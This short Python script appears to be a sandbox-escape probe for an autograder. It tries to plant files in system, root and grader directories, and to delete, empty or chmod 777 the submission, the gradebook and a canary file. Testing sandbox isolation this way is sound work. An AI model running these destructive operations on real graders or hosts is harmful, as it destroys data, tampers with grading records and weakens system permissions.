"""Writes, changes and removes files wherever it can.

Success: a file of the host has changed.
"""

for folder in (
    KNOWN["canary"],
    KNOWN["class"],
    KNOWN["repository"],
    "/",
    "/usr/bin",
    "/usr/lib",
    "/grader/packages",
    "/grader/code/nand2resnet",
    "/grader/code/autograder/runner",
    "/etc",
    "/home",
    "/root",
    "/var/tmp",
):
    try:
        open(f"{folder}/left-behind", "w").write("by an attacker")
        print("came:", folder)
    except OSError:
        pass
for path in (KNOWN["canary"] + "/file", KNOWN["submission"], KNOWN["gradebook"]):
    for action in (
        os.unlink,
        lambda path: os.truncate(path, 0),
        lambda path: os.chmod(path, 0o777),
    ):
        try:
            action(path)
            print("came:", path)
        except OSError:
            pass
